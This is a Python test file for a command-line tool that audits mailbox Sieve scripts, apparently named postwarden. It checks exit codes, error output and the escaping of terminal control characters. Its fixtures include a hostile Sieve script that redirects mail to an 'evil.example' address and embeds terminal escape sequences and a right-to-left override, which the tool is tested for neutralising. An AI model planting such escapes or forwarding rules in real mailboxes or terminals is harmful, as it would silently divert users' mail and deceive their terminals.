"""How commands end: exit codes, errors, and nothing foreign on the terminal."""

import json
import os
import sys
from pathlib import Path

import pytest

from postwarden.cli import audit, demo
from postwarden.cli.exits import BUG, CLEAN, FINDINGS, INTERRUPTED, NOT_SOUND, UNREADABLE, USAGE
from postwarden.cli.outcome import Summary, exit_code, open_findings
from postwarden.errors import (
    ConfigError,
    LedgerBusy,
    LedgerError,
    LedgerUnsound,
    PostwardenError,
    RuleError,
    UsageError,
)
from postwarden.model.finding import CheckRef, Finding, Level
from postwarden.model.reading import Coverage
from postwarden.model.scope import account_scope
from postwarden.model.standing import Standing
from postwarden.pipeline.audit import Audited
from postwarden.pipeline.collect import Reading
from postwarden.pipeline.record import Recorder
from tests.unit.cli.conftest import NOW, Run

SCOPE = account_scope("login:alice")


def test_the_codes_are_those_that_are_documented() -> None:
    """Scripts rely on the numbers."""
    assert (CLEAN, FINDINGS, USAGE, UNREADABLE, NOT_SOUND, BUG, INTERRUPTED) == (0, 1, 2, 3, 4, 70, 130)


def finding(level: Level = "high") -> Finding:
    return Finding(
        id="X" * 26, rule="r", name="n", title="T", level=level, scope=SCOPE, subject=("s",),
        checks=(CheckRef(source="imap", check="c"),),
    )  # fmt: skip


def audited(
    level: Level | None = None,
    *,
    status: str | None = None,
    gap: bool = False,
    accepted: str | None = None,
    unrecorded: PostwardenError | None = None,
) -> Audited:
    found = (finding(level),) if level else ()
    standings = None
    if status is not None:
        standings = tuple(
            Standing(finding=one, status=status, first_seen=NOW, since=NOW)  # type: ignore[arg-type]  # the table's word
            for one in found
        )
        found = ()
    row = Coverage(scope=SCOPE, source="imap", check="c", status="gap" if gap else "read", accepted=accepted)
    reading = Reading(scope=SCOPE, evidence=(), coverage=(row,))
    return Audited(account=None, reading=reading, findings=found, standings=standings, unrecorded=unrecorded)


UNSOUND, BUSY = LedgerUnsound("differs"), LedgerBusy("locked")


@pytest.mark.parametrize(
    ("scopes", "code"),
    [
        ([], 0),
        ([audited()], 0),
        ([audited("high")], 1),
        ([audited("medium")], 1),
        ([audited("low")], 0),
        ([audited("high", status="open")], 1),
        ([audited("high", status="acknowledged")], 0),
        ([audited("high", status="resolved")], 0),
        ([audited(gap=True)], 3),
        ([audited(gap=True, accepted="ticket")], 0),
        ([audited("low", gap=True)], 3),
        ([audited("high", gap=True)], 1),
        ([audited(gap=True), audited("high")], 1),
        ([audited("high", unrecorded=BUSY)], 2),
        ([audited(unrecorded=LedgerError("full"))], 2),
        ([audited(unrecorded=BUSY), audited("high"), audited(gap=True)], 2),
        ([audited("high", unrecorded=UNSOUND)], 4),
        ([audited(unrecorded=BUSY), audited(unrecorded=UNSOUND)], 4),
        ([audited(unrecorded=UNSOUND), audited(unrecorded=BUSY), audited("high"), audited(gap=True)], 4),
    ],
)
def test_the_worst_of_what_happened_decides(scopes: list[Audited], code: int) -> None:
    """4 before 2 before 1 before 3 before 0, over all scopes, with acknowledged findings left out."""
    assert exit_code([Summary(one, "medium") for one in scopes]) == code


@pytest.mark.parametrize(("threshold", "counted"), [("informational", 1), ("high", 1), ("critical", 0)])
def test_a_threshold_decides_what_counts(threshold: Level, counted: int) -> None:
    """Findings below the threshold are shown and do not count."""
    summary = Summary(audited("high"), threshold)
    assert (summary.findings, summary.counted) == (1, counted)
    assert exit_code([summary]) == counted


def test_old_findings_count_as_long_as_they_are_open() -> None:
    """What an earlier audit found counts, although this one did not see it again."""
    assert len(open_findings(audited("high", status="open"))) == 1
    assert open_findings(audited("high", status="acknowledged")) == []


@pytest.mark.parametrize(
    ("raised", "code", "said"),
    [
        (UsageError("no such account", "list it"), 2, "error: no such account\npostwarden: hint: list it\n"),
        (ConfigError("is wrong", "mend it", path="a.toml", key="b"), 2, "error: a.toml: b: is wrong\n"),
        (RuleError("has no level", path="r.yml", line=3), 2, "error: r.yml:3: has no level\n"),
        (LedgerError("is full"), 2, "error: is full\n"),
        (LedgerBusy("locked"), 2, "error: locked\n"),
        (LedgerUnsound("differs", "look"), 4, "error: differs\npostwarden: hint: look\n"),
        (KeyboardInterrupt(), 130, "interrupted"),
        (ValueError("a bug"), 70, "this is a bug of ours"),
        (RecursionError("deep"), 70, "this is a bug of ours"),
        (UsageError("an \x1b[31mescape\n\u202e"), 2, "an \\u{1b}[31mescape\\u{a}\\u{202e}\n"),
        (ValueError("an \x1b[31mescape"), 70, "\\u{1b}[31m"),
    ],
    ids=lambda one: type(one).__name__ if isinstance(one, BaseException) else None,
)
def test_every_error_has_its_code_and_its_words(
    raised: BaseException, code: int, said: str, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Errors go to stderr, in one form, with nothing that a terminal would obey."""

    def fail(_: object) -> int:
        raise raised

    monkeypatch.setattr(audit, "run", fail)
    done = run("audit", "--all")
    assert done.code == code
    assert done.out == ""
    assert said in done.err
    assert "\x1b" not in done.err
    assert ("Traceback" in done.err) is (code == 70)


def test_a_reader_that_left_is_no_bug(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """`| head` ends the program without a traceback."""

    def fail(_: object) -> int:
        raise BrokenPipeError

    monkeypatch.setattr(demo, "run", fail)
    monkeypatch.setattr(os, "dup2", lambda *_: None)
    monkeypatch.setattr(sys.stdout, "fileno", lambda: 1)
    done = run("demo")
    assert done.code == INTERRUPTED
    assert "Traceback" not in done.err


ESCAPE = "a\x1b]0;owned\x07\u202eb\nc"
HOSTILE = f'redirect "{ESCAPE}@evil.example";\nif header :contains "subject" "{ESCAPE}" {{ discard; }}\n'
UNSAFE = {"\x1b", "\x07", "\u202e", "\x9b", "\u200b"}


def test_no_script_speaks_to_the_terminal_through_an_explanation(run: Run, place: Path) -> None:
    """What stands in a mailbox's script is shown as escapes, whoever wrote it."""
    (place / "s.sieve").write_text(HOSTILE)
    done = run(
        "rules", "explain", "external_redirect_everything", "s.sieve", "--internal-domain", "example.org"
    )
    assert done.code in {CLEAN, FINDINGS}
    assert done.out
    assert not UNSAFE & set(done.out)


def test_no_script_speaks_to_the_terminal_through_inspect(run: Run, place: Path) -> None:
    """JSON lines are ASCII, one object a line."""
    (place / "s.sieve").write_text(HOSTILE)
    done = run("inspect", "s.sieve", "--internal-domain", "example.org")
    assert done.code == FINDINGS
    assert done.out.isascii()
    assert {json.loads(line)["type"] for line in done.out.splitlines()} >= {"evidence", "finding", "summary"}


@pytest.mark.parametrize(
    "verb", [("inspect",), ("rules", "explain", "external_redirect_everything")], ids=" ".join
)
def test_a_file_with_any_name_can_be_looked_at(verb: tuple[str, ...], run: Run, place: Path) -> None:
    """A name that is not UTF-8, as old mail stores have them, is no bug of ours."""
    name = "caf\udce9.sieve"
    (place / name).write_text('redirect "eve@evil.example";')
    done = run(*verb, name, "--internal-domain", "example.org")
    assert done.code != BUG, done.err


@pytest.mark.parametrize(
    ("content", "code"),
    [(b'redirect "eve@evil.example";', 1), (b"keep;", 0), (b"if {", 3), (b"", 0), (b"\xff\xfe", 3)],
)
def test_inspect_ends_as_an_audit_does(content: bytes, code: int, run: Run, place: Path) -> None:
    """Findings are 1, what is not understood is 3, clean is 0."""
    (place / "s.sieve").write_bytes(content)
    assert run("inspect", "s.sieve", "--internal-domain", "example.org").code == code


@pytest.mark.parametrize("name", ["gone.sieve", "folder.sieve", "notes.txt", "a" * 300 + ".sieve"])
def test_a_file_that_cannot_be_inspected_is_a_usage_error(name: str, run: Run, place: Path) -> None:
    """A missing file, a folder, a name of no kind and a name that is too long exit 2 with the name."""
    (place / "folder.sieve").mkdir()
    (place / "notes.txt").write_text("x")
    done = run("inspect", name, "--internal-domain", "example.org")
    assert done.code == USAGE
    assert name[:100] in done.err


@pytest.mark.parametrize(
    "domain", ["Example.org", "a b", "b\u00fccher.example", "example.org.", "*.example.org", ""]
)
def test_a_domain_on_the_command_line_is_held_to_the_same_as_in_the_file(
    domain: str, run: Run, place: Path
) -> None:
    """A domain that no address could be compared with is refused, or everything would be external."""
    (place / "s.sieve").write_text("keep;")
    assert run("inspect", "s.sieve", "--internal-domain", domain).code == USAGE


def test_without_domains_inspect_says_so(run: Run, place: Path) -> None:
    """Where no domain is known, that is a gap of its own."""
    (place / "s.sieve").write_text('redirect "eve@evil.example";')
    done = run("inspect", "s.sieve")
    assert done.code == UNREADABLE
    assert any(json.loads(line)["type"] == "gap" for line in done.out.splitlines())


LEDGER = '[accounts]\nlist = ["alice"]\n[state]\nfolder = "state"\n[ledger]\norigin = "postwarden/test"\n'


@pytest.fixture
def initialised(run: Run, place: Path) -> Path:
    """A place with a configuration and an empty ledger."""
    (place / "agent.toml").write_text(LEDGER)
    (place / "agent.toml").chmod(0o600)
    assert run("init", "--config", "agent.toml").code == CLEAN
    return place


def test_init_prints_the_key_alone(run: Run, place: Path) -> None:
    """Stdout is the verifier key, so that it can be kept with `>`; a second time nothing is changed."""
    (place / "agent.toml").write_text(LEDGER)
    (place / "agent.toml").chmod(0o600)
    done = run("init", "--config", "agent.toml")
    assert done.code == CLEAN
    assert done.out.startswith("postwarden/test+")
    assert done.out.count("\n") == 1
    again = run("init", "--config", "agent.toml")
    assert (again.code, again.out) == (USAGE, "")
    assert run("verify", "--config", "agent.toml", "--key", done.out.strip()).code == CLEAN


@pytest.mark.parametrize("words", [("list",), ("list", "--all", "--json"), ("rebuild",)], ids=" ".join)
def test_an_empty_ledger_has_no_findings(words: tuple[str, ...], run: Run, initialised: Path) -> None:
    """Listing and rebuilding work from the first day."""
    assert run("findings", *words, "--config", "agent.toml").code == CLEAN


@pytest.mark.parametrize(
    "words",
    [
        ("findings", "show", "ABC"),
        ("findings", "show", ""),
        ("findings", "ack", "ABC", "--reason", "r"),
        ("findings", "ack", "ABC", "--reason", " "),
        ("findings", "ack", "ABC", "--reason", "r", "--until", "tomorrow"),
        ("findings", "ack", "ABC", "--reason", "r", "--until", "2020-01-01"),
        ("findings", "ack", "ABC", "--reason", "r", "--until", "0001-01-01"),
        ("findings", "ack", "ABC", "--reason", "caf\udce9"),
        ("audit", "--account", "caf\udce9"),
        ("audit", "--account", "bob"),
        ("audit", "--all"),
        ("check-config",),
        ("verify", "/nowhere"),
        ("rules", "explain", "no_such_rule", "x.sieve"),
    ],
    ids=lambda words: ascii(" ".join(words)),
)
def test_what_cannot_be_done_exits_2_and_says_why(
    words: tuple[str, ...], run: Run, initialised: Path
) -> None:
    """Unknown ids, days and accounts, and a configuration without sources, are usage errors."""
    extra = () if words[0] == "verify" else ("--config", "agent.toml")
    done = run(*words, *extra)
    assert done.code == USAGE, done.err
    assert done.err.startswith("postwarden: error: ")
    assert "hint: " in done.err


def test_a_ledger_of_another_name_is_not_written(run: Run, initialised: Path) -> None:
    """A state folder that belongs to another configuration is refused."""
    (initialised / "agent.toml").write_text(LEDGER.replace("postwarden/test", "postwarden/other"))
    done = run("findings", "list", "--config", "agent.toml")
    assert done.code == USAGE
    assert "postwarden/other" in done.err


def test_a_reason_that_can_be_written_is_recorded_as_it_is(
    run: Run, initialised: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An acknowledgement whose reason holds bytes that are not UTF-8 is refused or recorded with escapes, no bug."""

    def one(_: Recorder, __: str) -> Standing:
        return Standing(finding=finding(), status="open", first_seen=NOW, since=NOW)

    monkeypatch.setattr(Recorder, "one", one)
    done = run("findings", "ack", "X", "--reason", "caf\udce9", "--config", "agent.toml")
    assert done.code != BUG, done.err
